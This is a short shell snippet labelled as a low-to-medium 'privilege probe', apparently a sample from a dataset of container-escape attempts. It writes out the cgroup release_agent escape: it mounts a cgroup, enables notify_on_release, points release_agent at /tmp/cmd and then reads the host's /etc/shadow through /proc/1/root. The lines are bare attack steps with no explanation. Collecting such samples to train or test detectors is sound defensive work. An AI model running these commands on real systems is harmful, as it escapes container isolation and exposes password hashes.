# class: privilege probe; possible: low medium
d=$(dirname $(ls -d /sys/fs/cgroup/*/release_agent 2>/dev/null | head -1) 2>/dev/null)
mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg
mkdir /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release
echo "/tmp/cmd" > /tmp/cg/release_agent
cat /proc/1/root/etc/shadow
exit 0
